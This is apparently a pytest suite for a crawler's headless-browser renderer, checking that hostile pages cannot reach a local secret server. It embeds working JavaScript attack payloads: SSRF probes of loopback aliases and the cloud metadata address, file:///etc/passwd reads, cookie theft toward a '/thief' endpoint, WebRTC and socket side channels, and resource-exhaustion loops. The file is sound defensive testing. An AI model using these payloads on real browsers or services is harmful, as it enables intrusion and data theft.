"""What a page may try in the browser: nothing of it comes to a server that the crawler itself would not ask."""

# ruff: noqa: E501  # lines of scripts
from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from support.attacker import Secret
from support.browser import CHROMIUM
from support.crawling import crawl, history, topic_file
from support.httpserver import QuietHandler, listening

from crawlproject.parts.rendering.browser.page_session import MOST_EVENTS
from crawlproject.parts.rendering.browser.renderer import TRIES
from crawlproject.parts.rendering.browser_requests import MOST_FRAMES, MOST_REQUESTS, MOST_SENT

SHELL = '<!doctype html><title>{name}</title><body><div id="root"></div><script src="/main.js"></script><script>{script}</script>'
DONE = "document.getElementById('root').innerHTML = '<p>the page went on, coral reef fish polyp lagoon atoll diver current kelp</p>';"
SECRET = "http://127.0.0.1:{secret}/secret"

# Each is one page with all of them in a row.
ATTACKS = {
    "requests": (
        "fetch('{url}').catch(() => 0);",
        "fetch('{url}', {{mode: 'no-cors'}}).catch(() => 0);",
        "fetch('/said', {{method: 'POST', body: 'x'}}).catch(() => 0);",
        "fetch('http://169.254.169.254/latest/meta-data/').catch(() => 0);",
        "for (const h of ['localhost', '2130706433', '[::1]', '0x7f.1', 'x.localhost', '0.0.0.0'])"
        " fetch('http://' + h + ':{secret}/').catch(() => 0);",
        "fetch('/to-secret').then((r) => r.text()).then((t) => fetch('/said?' + t)).catch(() => 0);",
        "document.head.append(Object.assign(document.createElement('script'), {{src: '/to-secret'}}));",
    ),
    "elements": (
        "document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=\"{url}\"><link rel=dns-prefetch href=\"{url}\">"
        "<link rel=prefetch href=\"{url}\"><link rel=preload as=script href=\"{url}\"><link rel=modulepreload href=\"{url}\">"
        "<style>@import \"{url}\"; @font-face {{font-family: x; src: url({url})}} body {{background: url({url}); font-family: x}}</style>');",
        "document.head.append(Object.assign(document.createElement('script'),"
        " {{type: 'speculationrules', textContent: JSON.stringify({{prerender: [{{urls: ['{url}']}}]}})}}));",
        "new Image().src = '{url}'; document.body.insertAdjacentHTML('beforeend', '<video src=\"{url}\"></video>"
        "<object data=\"{url}\"></object><embed src=\"{url}\"><iframe src=\"{url}\"></iframe><iframe src=\"file:///etc/passwd\"></iframe>');",
    ),
    "sockets": (
        "new WebSocket('ws://127.0.0.1:{secret}/'); new EventSource('{url}'); navigator.sendBeacon('{url}', 'x');",
        "try {{ new WebTransport('https://127.0.0.1:{secret}/'); }} catch (e) {{}}",
        "const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{secret}'}}, {{urls:"
        " 'turn:127.0.0.1:{secret}?transport=tcp', username: 'a', credential: 'b'}}]}}); p.createDataChannel('x');"
        " p.createOffer().then((o) => p.setLocalDescription(o));",
        "const a = Object.assign(document.createElement('a'), {{href: '#x', ping: '{url}'}}); document.body.append(a); a.click();",
    ),
    "workers": (
        "new Worker(URL.createObjectURL(new Blob([\"fetch('{url}'); importScripts('{url}');\"])));",
        "try {{ new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{url}');\"]))); }} catch (e) {{}}",
        "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => 0);",
    ),
    "windows": (
        "for (let n = 0; n < 5; n++) window.open('{url}');",
        "document.body.insertAdjacentHTML('beforeend', '<form method=post action=\"{url}\" target=x id=f></form>'); document.forms.f.submit();",
        "alert(1); confirm(2); prompt(3); print();",
        "const b = Object.assign(document.createElement('a'), {{href: URL.createObjectURL(new Blob(['x'])), download: 'y'}});"
        " document.body.append(b); b.click();",
    ),
    "much": (
        "document.title = '\\ud800 half a pair';",
        "fetch('data:text/plain,' + 'x'.repeat(3e7)).catch(() => 0); fetch('file:///etc/passwd').catch(() => 0);",
        "for (let n = 0; n < 400; n++) fetch('/many/' + n).catch(() => 0);",
    ),
    "posts": (
        "const json = {{method: 'POST', headers: {{'Content-Type': 'application/json'}}, body: '{{}}'}};",
        "for (const h of ['127.0.0.1', '127.1', '2130706433', '[::ffff:127.0.0.1]', 'u:p@127.0.0.1'])"
        " fetch('http://' + h + ':{secret}/', json).catch(() => 0);",
        "const x = new XMLHttpRequest(); x.open('POST', 'http://127.0.0.1@127.0.0.1:{secret}/'); x.send('{{}}');",
        "fetch('/to-secret', json).catch(() => 0);",
        "fetch('http://localhost:{port}/other-site', json).catch(() => 0);",
        "fetch('/said', {{...json, headers: {{'Content-Type': 'multipart/form-data; boundary=x'}}}}).catch(() => 0);",
        "fetch('/said', {{method: 'POST', body: new Blob(['{{}}'], {{type: 'text/html'}})}}).catch(() => 0);",
        "fetch('/said', {{...json, body: new Blob([new Uint8Array([255, 254])])}}).catch(() => 0);",
        "fetch('/said', {{...json, body: '\"' + 'x'.repeat(20000) + '\"'}}).catch(() => 0);",
        "fetch('/said', {{...json, body: JSON.stringify({{query: 'mutation {{ buy }}'}})}}).catch(() => 0);",
        "fetch('/forbidden', json).catch(() => 0);",
        "for (let n = 0; n < 100; n++) fetch('/ask', json).catch(() => 0);",
    ),
    "cookies": (
        "document.cookie = 'a=here'; document.cookie = 'b=there; domain=localhost'; document.cookie = 'c=wide; domain=1';",
        "for (let n = 0; n < 300; n++) document.cookie = 'n' + n + '=' + 'x'.repeat(4000);",
        "fetch('/own-cookies').catch(() => 0);",
        "fetch('http://localhost:{port}/thief', {{credentials: 'include'}}).catch(() => 0);",
        "fetch('http://localhost:{port}/thief', {{headers: {{'x-a': 'b'}}, credentials: 'include'}}).catch(() => 0);",
        "document.head.append(Object.assign(document.createElement('script'), {{src: 'http://localhost:{port}/thief'}}));",
    ),
    "frames": (
        "const add = (src) => document.body.append(Object.assign(document.createElement('iframe'), {{src}}));",
        "for (const src of ['file:///etc/passwd', '{url}', '/to-secret', 'http://localhost:{port}/other-site', 'view-source:{url}',"
        " 'chrome://version', 'blob:null/x', 'javascript:fetch(\"{url}\")', 'about:blank', 'ftp://127.0.0.1:{secret}/']) add(src);",
        "add('data:text/html,<p>datum<script>fetch(\"{url}\")</' + 'script>'); add('data:text/html,' + 'x'.repeat(1e6));",
        "add('/deep/1');",
    ),
    "many-frames": (
        "for (let n = 0; n < 30; n++) document.body.append(Object.assign(document.createElement('iframe'), {{src: '/flat/' + n}}));",
    ),
    "clicks": (
        "document.body.insertAdjacentHTML('beforeend', '<form name=states><input name=page><input name=copyOf></form><p id=controls></p>');",
        "const control = (does, html) => {{ controls.insertAdjacentHTML('beforeend', html || '<span><button>x</button></span>');"
        " const made = controls.lastChild.lastChild; made.className = 'c' + 'abcdefghijklmn'[controls.children.length]; made.onclick = does; }};",
        "control(() => fetch('{url}').catch(() => 0)); control(() => {{ location = '{url}'; }}); control(() => window.open('{url}'));",
        "control(null, '<p><a href=\"javascript:location.href=`{url}`\">x</a></p>'); control(() => {{ location = 'file:///etc/passwd'; }});",
        "control(() => fetch('/said', {{method: 'POST', headers: {{'Content-Type': 'application/json'}}, body: '{{}}'}}).catch(() => 0));",
        "control(() => {{ document.body.insertAdjacentHTML('beforeend', '<form method=post action=/said id=sent></form>');"
        " document.forms.sent.submit(); }});",
        "control(() => {{ for (let n = 0; n < 9; n++) history.pushState(0, '', '/pushed/' + n); }});",
        "control(() => document.body.insertAdjacentHTML('beforeend', '<iframe src=\"{url}\"></iframe><iframe src=\"/to-secret\"></iframe>'));",
        "control(() => {{ let node = controls; for (let n = 0; n < 5000; n++) node = node.appendChild(document.createElement('b')); }});",
        "control(() => {{ for (let n = 0; n < 400; n++) fetch('/lots/' + n).catch(() => 0); }});",
        "control(() => {{ for (let n = 0; n < 30000; n++) fetch('/said', {{method: 'PUT'}}).catch(() => 0); }});",
    ),
    "nested-here": (
        "let inner = document; for (let n = 0; n < 100; n++) {{ const f = inner.createElement('iframe'); inner.body.append(f);"
        " inner = f.contentDocument; inner.body.append('level ' + n); }}",
        "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<p>one<script>fetch(`{url}`)</' + 'script>\"></iframe>');",
    ),
}  # fmt: skip
# These do not come to their end, or lead elsewhere.
OTHERS = {
    "location": "location.href = '{url}';",
    "download": "const a = Object.assign(document.createElement('a'), {{href: '{url}', download: 'x'}}); document.body.append(a); a.click();",
    "file-location": "const to = 'file:///etc/passwd'; location.href = to;",
    "data-location": "const to = 'data:text/html,<p>hi'; location.href = to;",
    "endless": "while (true) {{}}",
    "endless-dialogs": "while (true) alert(1);",
    "hog": "const all = []; while (true) {{ const part = new Uint8Array(5e7); part.fill(1); all.push(part); }}",
    "nodes": "while (true) document.body.append(document.createElement('p'));",
    "reload": "location.reload();",
    "frame-endless": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '/endless-frame'}}));",
    "frame-moves-all": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '/moving-frame'}}));",
    "frame-form": "document.body.insertAdjacentHTML('beforeend', '<iframe name=x></iframe><form method=post action=/said target=x id=f>"
    "<input name=a value=b></form>'); document.forms.f.submit();",
    "cookie-reloads": "document.cookie = 'n=' + Date.now(); location.reload();",
    "chatter": "(async () => {{ for (;;) await fetch('/said', {{method: 'PUT'}}).catch(() => 0); }})();",
    "chatter-at-once": "for (let n = 0; n < 30000; n++) fetch('/said', {{method: 'PUT'}}).catch(() => 0);",
    "frame-chatter": "for (;;) {{ const f = document.createElement('iframe'); document.body.append(f); f.remove(); }}",
    "post-bomb": "fetch('/said', {{method: 'POST', body: 'x'.repeat(4e7)}}).catch(() => 0);",
    "methods": "for (let n = 0; n < 50; n++) fetch('/said', {{method: 'M' + n}}).catch(() => 0);",
    "long": "document.body.innerHTML = '<p>coral reef</p>'.repeat(1e6);",
}


class _Udp(threading.Thread):
    """Counts what comes by UDP to a port."""

    def __init__(self, port: int) -> None:
        super().__init__(daemon=True)
        self.count = 0
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", port))
        self._socket.settimeout(0.2)
        self._over = False

    def run(self) -> None:
        while not self._over:
            try:
                self._socket.recvfrom(2048)
            except TimeoutError:
                continue
            self.count += 1

    def close(self) -> None:
        self._over = True
        self.join()
        self._socket.close()


def _pages(secret: int, port: int) -> dict[str, str]:
    said = {"url": SECRET.format(secret=secret), "secret": secret, "port": port}
    after = {name: "".join(scripts).format(**said) + DONE for name, scripts in ATTACKS.items()}
    return after | {name: script.format(**said) for name, script in OTHERS.items()}


class Asked(NamedTuple):
    method: str
    path: str
    host: str
    cookie: str


FRAMES = {
    "endless-frame": "<p>endless<script>while (true) {}</script>",
    "moving-frame": "<script>top.location = '/moved'; parent.location = 'file:///etc/passwd'</script>",
}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """One crawl in which every page is an attack, through one Chromium."""
    if CHROMIUM is None:
        pytest.skip("no Chromium: scripts/install-chromium installs one")
    place = tmp_path_factory.mktemp("browser")
    asked: list[Asked] = []
    with closing(Secret()) as secret, closing(_Udp(secret.port)) as udp:
        udp.start()
        pages: dict[str, str] = {}

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                asked.append(Asked(self.command, self.path, self.headers["Host"], self.headers.get("Cookie", "")))
                name = self.path.strip("/")
                if self.headers["Host"].startswith("localhost"):
                    self._send(200, b"<p>another site, of coral reefs", ("Content-Type", "text/html"))
                elif name == "to-secret":
                    self._send(307, b"", ("Location", SECRET.format(secret=secret.port)))
                elif name == "robots.txt":
                    self._send(200, b"User-agent: *\nDisallow: /forbidden", ("Content-Type", "text/plain"))
                elif name.startswith("deep/"):
                    inner = f'<p>level {name}<iframe src="/deep/{int(name[5:]) + 1}"></iframe>'
                    self._send(200, inner.encode(), ("Content-Type", "text/html"))
                elif name.startswith("flat/"):
                    self._send(200, b"<p>flat " * 200, ("Content-Type", "text/html"))
                elif name in FRAMES:
                    self._send(200, FRAMES[name].encode(), ("Content-Type", "text/html"))
                elif name == "main.js":
                    self._send(200, b"0;", ("Content-Type", "text/javascript"))
                elif name == "":
                    links = "".join(f'<p>coral reef <a href="/{page}">reef {page}</a></p>' for page in pages)
                    self._send(200, links.encode(), ("Content-Type", "text/html"))
                elif name in pages:
                    self._send(200, SHELL.format(name=name, script=pages[name]).encode(), ("Content-Type", "text/html"))
                else:
                    self._send(404, b"", ("Content-Type", "text/html"))

            do_POST = do_PUT = do_GET

            def _send(self, status: int, body: bytes, header: tuple[str, str]) -> None:
                self.send_response(status)
                self.send_header(*header)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        handler: type[BaseHTTPRequestHandler] = Handler
        with listening(handler) as port:
            pages.update(_pages(secret.port, port))
            done = crawl(
                topic_file(place, f"http://127.0.0.1:{port}/", f"http://localhost:{port}/"),
                place / "crawl",
                CRAWL_RENDER="always",  # "needed" leaves a host of such pages alone
                CRAWL_RENDER_SECONDS=2,  # a busy machine starts slowly
                CRAWL_RENDER_POSTS=5,
                CRAWL_RENDER_CLICKS=20,
                CRAWL_RENDER_PAGES=4,
                CRAWL_RENDER_MEMORY=300 * 2**20,
                CRAWL_ALLOWED_PORTS=f"80,443,{secret.port}",
                CRAWL_BLOCKED_REST=0.001,
                CRAWL_BLOCKS_UNTIL_GIVEN_UP=0,
            )
        yield {
            "folder": place / "crawl",
            "done": done,
            "visits": secret.visits,
            "datagrams": udp.count,
            "asked": asked,
            "stats": json.loads((place / "crawl" / "crawl.json").read_text())["stats"],
            "lines": {
                line["url"].rpartition("/")[2]: line for line in history(place / "crawl") if "//127" in line["url"]
            },
        }


def test_nothing_comes_to_the_secret(attacked: dict[str, Any]) -> None:
    assert attacked["done"].returncode == 0 and "Traceback" not in attacked["done"].stderr, attacked["done"].stderr
    assert attacked["visits"] == attacked["datagrams"] == 0


def test_the_pages_go_on_without_what_they_wanted(attacked: dict[str, Any]) -> None:
    lines = [attacked["lines"][name] for name in ATTACKS]
    assert [line for line in lines if not (line["signs"].get("rendered") and line["md5"])] == []
    assert [line for line in lines if "secret" in line["title"]] == []


def test_what_has_no_end_is_ended(attacked: dict[str, Any]) -> None:
    for name in ("endless", "endless-dialogs", "hog", "nodes", "reload", "file-location", "data-location"):
        assert attacked["lines"][name]["error"] == "needs_browser", name
        assert attacked["lines"][name]["seconds"] < 25, name
    assert attacked["lines"]["long"]["size"] <= 1_048_576


def test_a_redirect_by_script_is_refused_like_a_link(attacked: dict[str, Any]) -> None:
    for name in ("location", "download"):
        assert attacked["lines"][name]["redirect"].endswith("/secret")
    assert not any(line["url"].endswith("/secret") for line in attacked["lines"].values())


def test_only_so_much_is_asked_for(attacked: dict[str, Any]) -> None:
    paths = [asked.path for asked in attacked["asked"]]
    assert all(sum(path.startswith(kind) for path in paths) <= MOST_REQUESTS for kind in ("/many/", "/lots/"))
    assert not [path for path in paths if path.startswith("/said")]


def test_questions_are_posted_to_the_own_site_only_and_only_so_many(attacked: dict[str, Any]) -> None:
    others = [asked for asked in attacked["asked"] if asked.method != "GET"]
    assert {asked.path for asked in others} <= {"/ask", "/to-secret"} and {asked.method for asked in others} == {"POST"}
    assert len(others) <= 5 and not [asked for asked in others if asked.host.startswith("localhost")]


def test_cookies_cross_no_site_and_no_page(attacked: dict[str, Any]) -> None:
    asked = attacked["asked"]
    assert [each for each in asked if each.path == "/thief"], "it was asked"
    assert not [each for each in asked if each.host.startswith("localhost") and each.cookie]
    with_cookies = {each.path for each in asked if each.cookie}
    assert with_cookies <= {"/own-cookies", "/cookie-reloads", "/main.js"}, with_cookies
    assert sum(each.path == "/cookie-reloads" and bool(each.cookie) for each in asked) == 1
    assert all(len(each.cookie) <= MOST_SENT for each in asked)


def test_what_a_click_does_stays_in_the_page(attacked: dict[str, Any]) -> None:
    signs = attacked["lines"]["clicks"]["signs"]
    assert sum(name.startswith("clicked/") for name in signs) >= 5, "they were clicked"
    assert _stored(attacked, "clicks").startswith("<!DOCTYPE html>") and "root:" not in _stored(attacked, "clicks")


def test_frames_are_few_and_not_deep(attacked: dict[str, Any]) -> None:
    paths = {asked.path for asked in attacked["asked"]}
    assert "/deep/1" in paths and {path for path in paths if path.startswith("/deep/")} <= {"/deep/1", "/deep/2"}
    assert sum(path.startswith("/flat/") for path in paths) <= MOST_FRAMES
    assert "/other-site" not in paths
    lines = attacked["lines"]
    assert all(lines[name]["size"] <= 1_048_576 for name in ("frames", "many-frames", "nested-here"))
    for text in ("root:", "<p>datum", "level deep/3", "ERR_", "Chromium"):
        assert text not in _stored(attacked, "frames"), text


def test_a_page_that_talks_without_end_is_not_listened_to(attacked: dict[str, Any]) -> None:
    for name in ("chatter", "chatter-at-once", "frame-chatter", "frame-endless", "post-bomb"):
        assert attacked["lines"][name]["signs"].get("rendered"), name
        assert attacked["lines"][name]["seconds"] < 25, name
    stats = attacked["stats"]
    blocked = {name: count for name, count in stats.items() if name.startswith("render/requests/blocked/")}
    assert blocked["render/requests/blocked/PUT"] <= 2 * MOST_EVENTS * TRIES
    assert blocked["render/requests/blocked/method"] >= 50 and len(blocked) < 30, blocked


def _stored(attacked: dict[str, Any], name: str) -> str:
    md5 = attacked["lines"][name]["md5"]
    return (attacked["folder"] / "pages" / md5[:2] / md5[2:4] / md5).read_text()


def test_nothing_is_left(attacked: dict[str, Any]) -> None:
    """No process, and no file but those of the crawl."""
    mine = str(attacked["folder"].parent)
    assert {path.name for path in Path(mine).iterdir()} == {"topic.toml", "crawl"}
    left = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if b"--remote-debugging-pipe" in process.joinpath("cmdline").read_bytes():
                parent = int(process.joinpath("stat").read_text().rpartition(")")[2].split()[1])
                left += [process.name] if parent in (1, os.getpid()) else []
        except OSError:
            continue
    assert left == []
